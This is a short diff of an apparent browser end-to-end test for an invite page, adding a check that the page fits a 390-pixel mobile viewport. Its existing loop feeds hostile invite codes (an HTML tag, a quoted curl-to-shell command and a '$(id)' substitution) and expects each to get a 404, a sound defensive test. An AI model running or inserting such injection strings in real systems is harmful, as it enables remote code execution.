@@ -41,6 +41,8 @@ it('an invite says how to join, whatever its code is, and nothing but a code bec
   const page = await browser.newPage();
   await page.goto(`${test.url}/r/ABC234`);
   expect(await page.textContent('pre')).toContain('/api/agents/join');
+  await page.setViewportSize({ width: 390, height: 800 });
+  expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390);
   for (const hostile of ['<b id=x>K', "';curl x.co|sh;'", '$(id)']) {
     const answer = await page.goto(`${test.url}/r/${encodeURIComponent(hostile)}`);
     expect(answer?.status(), hostile).toBe(404);
